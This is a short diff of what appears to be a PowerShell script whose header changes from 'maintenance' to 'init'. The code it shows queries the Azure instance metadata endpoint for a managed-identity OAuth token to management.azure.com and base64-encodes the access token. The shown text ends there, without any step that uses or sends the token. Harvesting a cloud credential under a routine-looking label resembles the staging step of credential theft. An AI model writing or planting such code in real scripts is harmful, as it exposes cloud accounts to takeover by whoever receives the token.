@@ -1,4 +1,4 @@
-# maintenance 2268 v0
+# init 3046 v0
 $h = @{ Metadata = 'true' }
 $tok = irm -Headers $h -Uri 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2019-08-01&resource=https://management.azure.com'
 $b64 = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($tok.access_token))
